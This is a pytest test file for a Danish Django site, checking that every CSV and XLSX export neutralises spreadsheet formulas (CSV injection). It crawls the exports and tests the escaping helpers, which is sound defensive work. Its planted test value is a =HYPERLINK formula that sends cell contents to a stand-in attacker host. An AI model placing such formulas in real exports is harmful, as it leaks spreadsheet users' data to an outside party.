"""Every spreadsheet export neutralises formulas (OWASP "CSV injection").

Texts that a spreadsheet would run (beginning with = + - @, a tab or a carriage return) are
planted in what the exports carry; the site is crawled as a visitor and as an editor, and every
CSV and XLSX answered is read: no text cell may begin so (except a plain number such as
"-12,5"). The exports reached are compared with a list, so a new export must be placed here.
A second test reads the code: every CSV writer and workbook is made through core/tabular.py.
"""

import csv
import io
import re
from collections import deque
from pathlib import Path
from urllib.parse import urlsplit

import openpyxl
import pytest
from django.conf import settings
from django.test import Client
from django.utils import timezone

from uddannelsesby.accounts.models import Role
from uddannelsesby.catalogue.models import Programme
from uddannelsesby.core.tabular import (
    FORMULA_START,
    SafeDictWriter,
    SafeWriter,
    csv_cell,
    is_formula,
    neutralise,
)
from uddannelsesby.participation.models import Response
from uddannelsesby.plans.models import Activity

from ..factories import UserFactory
from .test_head import SKIP_PREFIXES, _body
from .test_valid_html import Links, _pattern_of, _site, _static_urls

POISON = '=HYPERLINK("https://angriber.example/?d="&A1;"Klik")'

# Every URL pattern that answers a spreadsheet (the API's observations.csv needs fetched
# Statistics Denmark data and is covered by the code test below and tests/indicators).
EXPORTS = {
    "handleplaner/<slug:policy>/<int:year>/eksport.csv",
    "handleplaner/<slug:policy>/<int:year>/eksport.xlsx",
    "handleplaner/<slug:policy>/<int:year>/aktiviteter.csv",
    "indikatorer/<slug:code>/data.csv",
    "indikatorer/data.csv",
    "deltag/hoeringer/<int:pk>/svar.csv",
    "uddannelser/data/<slug:name>.csv",
    "bro/redaktion/placeringer/",
}

SPREADSHEET_TYPES = ("text/csv", "application/vnd.openxmlformats")


def _cells(response) -> list[str]:
    data = _body(response)
    if response["Content-Type"].startswith("text/csv"):
        text = data.decode("utf-8-sig")
        delimiter = ";" if text.split("\n", 1)[0].count(";") else ","
        return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    # A text cell is kept as text when its "quote prefix" is set (what Excel writes for an
    # apostrophe typed before a text): read as the apostrophe it stands for.
    return [
        "'" + cell.value if cell.quotePrefix else cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ] + [
        # a formula cell is written with data type "f"; none may be
        f"formula:{cell.value}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _plant():
    response = Response.objects.order_by("pk").first()
    response.public_text = POISON
    response.public_sender = "@Ane Jensen"
    response.status = Response.Status.PUBLISHED
    response.reply = "+45 ring til os"
    response.save()
    hearing = response.hearing
    hearing.starts_on = timezone.localdate() - timezone.timedelta(days=10)
    hearing.save(update_fields=["starts_on"])
    Activity.objects.update(title=POISON, description="-2+3")
    Programme.objects.update(title_da="@SUM(A1:A9)", description_da=POISON)


def _crawl(client: Client, found: dict[str, list]) -> None:
    # the placements table links its CSV only when there are placements
    queue = deque([*_static_urls(), "/bro/redaktion/placeringer/?format=csv"])
    visited: set[str] = set()
    patterns: set[str] = set()
    while queue and len(visited) < 500:
        url = queue.popleft()
        if url in visited or urlsplit(url).path.startswith(SKIP_PREFIXES):
            continue
        visited.add(url)
        pattern = _pattern_of(url)
        key = (pattern, "format=" in url)
        if pattern is None or key in patterns:
            continue
        patterns.add(key)
        response = client.get(url)
        if response.status_code != 200:
            continue
        kind = response.get("Content-Type", "")
        if kind.startswith(SPREADSHEET_TYPES):
            found.setdefault(pattern, []).append((url, _cells(response)))
        elif kind.startswith("text/html"):
            parser = Links()
            parser.feed(_body(response).decode())
            queue.extend(link for link in parser.links if link not in visited)


@pytest.mark.django_db
def test_every_export_neutralises_formulas():
    _site()
    _plant()
    editor = Client()
    editor.force_login(UserFactory(role=Role.EDITOR, is_staff=True))
    found: dict[str, list] = {}
    for client in (Client(), editor):
        _crawl(client, found)
    assert set(found) == EXPORTS, f"Place new exports in EXPORTS: {set(found) ^ EXPORTS}"
    problems = []
    seen_poison = 0
    for pattern, answers in found.items():
        for url, cells in answers:
            for cell in cells:
                if cell.startswith("formula:") or is_formula(cell):
                    problems.append(f"{url} ({pattern}): {cell!r}")
                seen_poison += cell == "'" + POISON
    assert not problems, "\n".join(problems)
    assert seen_poison >= 3  # the planted text reached the exports, neutralised


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+45 12 34 56 78", "'+45 12 34 56 78"),
        ("-rm", "'-rm"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12,5", "-12,5"),  # a number written as text
        ("+3", "+3"),
        ("-1.5e3", "-1.5e3"),
        ("Tekst", "Tekst"),
        ("", ""),
        (12, 12),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_writers_and_cells():
    out = io.StringIO()
    SafeWriter(out, lineterminator="\n").writerow(["=A1", 3, "ok"])
    writer = SafeDictWriter(out, fieldnames=["a"], lineterminator="\n")
    writer.writerows([{"a": "@x"}])
    assert out.getvalue() == "'=A1,3,ok\n'@x\n"
    assert csv_cell("=A1") == "'=A1"
    assert all(neutralise(c + "x").startswith("'") for c in FORMULA_START)


WRITERS = re.compile(r"csv\.(?:writer|DictWriter)\(|openpyxl\.Workbook\(")
ALLOWED = {"core/tabular.py", "plans/io.py"}  # plans/io.py writes each cell through is_formula


def test_every_writer_is_the_safe_one():
    root = Path(settings.BASE_DIR, "src", "uddannelsesby")
    problems = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if WRITERS.search(path.read_text(encoding="utf-8"))
        and str(path.relative_to(root)) not in ALLOWED
    ]
    assert not problems, f"Write spreadsheets through core/tabular.py: {problems}"
